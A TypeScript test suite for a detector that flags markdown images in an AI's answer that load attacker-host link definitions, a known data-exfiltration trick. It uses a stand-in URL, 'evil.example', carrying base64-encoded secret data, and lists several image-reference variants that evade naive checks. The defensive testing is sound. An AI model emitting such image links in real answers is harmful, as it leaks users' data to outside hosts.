import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { FENCE_START, fenceAfter } from './code-fence.ts';
import { findLinks, type LinkContext } from './find-links.ts';

const AT = 'https://evil.example/p?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ';
const grave = (text: string, context?: LinkContext): boolean =>
  findLinks(text, context).some(({ severity }) => severity === 'high');
/** Whether anything is grave in the second of two pieces of an answer. */
const later = (first: string, second: string): boolean =>
  grave(second, { lead: { ...fenceAfter(first), midLine: false } });

describe('definitions, and pictures that mean them', () => {
  const honest: Readonly<Record<string, string>> = {
    'sources of links': `See [the paper][1].\n\n[1]: ${AT}`,
    'sources that nothing names': `[1]: ${AT}\n[2]: ${AT}1`,
    'a footnote': `As measured.[^1]\n\n[^1]: ${AT}`,
    'sources beside a picture with an address of its own': `![logo](https://example.com/logo.png)\n\n[1]: ${AT}`,
    'sources beside code': `\`\`\`rust\nlet a = vec![0; n];\n\`\`\`\n\n[1]: ${AT}`,
    'a picture that is a link': `[![v](https://img.example.com/vi/dQw4w9WgXcQ/0.jpg)](https://video.example.com/watch?v=dQw4w9WgXcQ)`,
    badges:
      '![b](https://github.com/u/r/actions/workflows/ci.yml/badge.svg?branch=main&event=push) ![n](https://img.example.io/npm/v/a.svg?style=flat-square&label=npm)',
  };
  for (const [name, text] of Object.entries(honest))
    it(`are let through: ${name}`, () => assert.equal(grave(text), false, text));

  const pictures: Readonly<Record<string, string>> = {
    'by its own text': '![1]',
    'by a label': '![x][1]',
    'by an empty label': '![1][]',
    'over two lines': '![a\nb][1]',
    'with what is no destination': '![1](a b c)',
    'with brackets in its text': '![a [b] c][1]',
  };
  for (const [name, picture] of Object.entries(pictures))
    it(`a picture loads what a definition names, before it and behind it: ${name}`, () => {
      const definition = `[1]: ${AT}`;
      assert.ok(grave(`${picture}\n\n${definition}`), 'behind it');
      assert.ok(grave(`${definition}\n\n${picture}`), 'before it');
      assert.ok(later(`${picture}\n\n`, definition), 'in a later piece');
      assert.ok(later(`${definition}\n\n`, picture), 'in an earlier piece');
      assert.ok(later(`[1]:\n${AT}\n\n`, picture), 'in an earlier piece, over two lines');
      assert.ok(later(`a\n\n[1]:\n`, `<${AT}>\n\n${picture}`), 'cut within it');
    });

  it('what came before is forgotten behind many definitions, and each is taken for one of a picture', () => {
    const many = Array.from({ length: 300 }, (_, i) => `[${i}]: https://example.com/${i}\n`).join('');
    assert.ok(later(many, `[1]: ${AT}`));
    assert.equal(later(many.slice(0, 2_000), `[1]: ${AT}`), false);
  });

  it('with hosts of its own, a system loads none of other hosts', () => {
    const hosts = ['docs.example.com'];
    const lead = { ...fenceAfter('[1]: https://evil.example/a.png\n\n'), midLine: false };
    assert.ok(grave('![1]', { hosts, lead }));
    assert.ok(grave('![1]\n\n[1]: https://evil.example/a.png', { hosts }));
    assert.equal(grave('[1]: https://docs.example.com/a.png\n\n![1]', { hosts }), false);
    assert.equal(grave('![1]', { lead: { ...FENCE_START, midLine: false } }), false);
  });
});
